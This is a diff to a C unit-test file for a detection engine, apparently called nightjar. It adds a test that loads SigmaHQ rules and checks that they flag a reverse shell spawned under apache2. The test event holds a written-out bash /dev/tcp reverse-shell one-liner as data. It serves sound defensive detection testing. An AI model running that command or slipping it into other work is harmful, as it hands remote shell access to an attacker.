@@ -862,6 +862,44 @@ static void test_pack_attacks(void **state) {
     sigma_rules_free(rs);
 }
 
+
+/* SigmaHQ's own rules, when a checkout is named by NIGHTJAR_SIGMA_DIR (its
+ * root or its rules/ folder; scripts/sigma-rules says how to get one): at
+ * least 95% of the three folders nightjar's sources feed must load, and the
+ * loaded set must match a reverse shell seen by auditd. */
+static void test_sigmahq(void **state) {
+    (void)state;
+    const char *root = getenv("NIGHTJAR_SIGMA_DIR");
+    if (!root || !*root) skip();
+    static const char *folders[] = {"linux/process_creation", "macos/process_creation", "linux/auditd"};
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    int loaded = 0;
+    for (size_t i = 0; i < NJ_ARRAY_LEN(folders); i++) {
+        char p[1024];
+        snprintf(p, sizeof p, "%s/rules/%s", root, folders[i]);
+        struct stat st;
+        if (stat(p, &st)) snprintf(p, sizeof p, "%s/%s", root, folders[i]);
+        int n = sigma_load_path(rs, p);
+        if (n < 0) fail_msg("%s: %s", p, nj_last_error());
+        loaded += n;
+    }
+    int skipped = sigma_skip_count(rs);
+    fprintf(stderr, "SigmaHQ: %d loaded, %d skipped\n", loaded, skipped);
+    assert_true(loaded > 0);
+    assert_true(loaded * 100 >= (loaded + skipped) * 95);
+    kv e;
+    sigma_event_view v = view_of(&e, (const char *const[]){
+        "Image=/usr/bin/bash", "CommandLine=bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+        "type=EXECVE", "a0=bash", "a1=-i", "ParentImage=/usr/sbin/apache2"}, 6);
+    v.service = "auditd";
+    const char *raw = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
+    v.raw = raw;
+    v.raw_len = strlen(raw);
+    assert_true(sigma_match(rs, &v, NULL, 0) >= 1);
+    sigma_rules_free(rs);
+}
+
 /* ---- allocation failure --------------------------------------------------- */
 
 static void test_load_oom(void **state) {
@@ -984,6 +1022,7 @@ int main(void) {
         cmocka_unit_test(test_canonical_event),
         cmocka_unit_test(test_pack_benign),
         cmocka_unit_test(test_pack_attacks),
+        cmocka_unit_test(test_sigmahq),
         cmocka_unit_test(test_load_oom),
         cmocka_unit_test(test_dir_oom),
         cmocka_unit_test(test_alias_bomb),
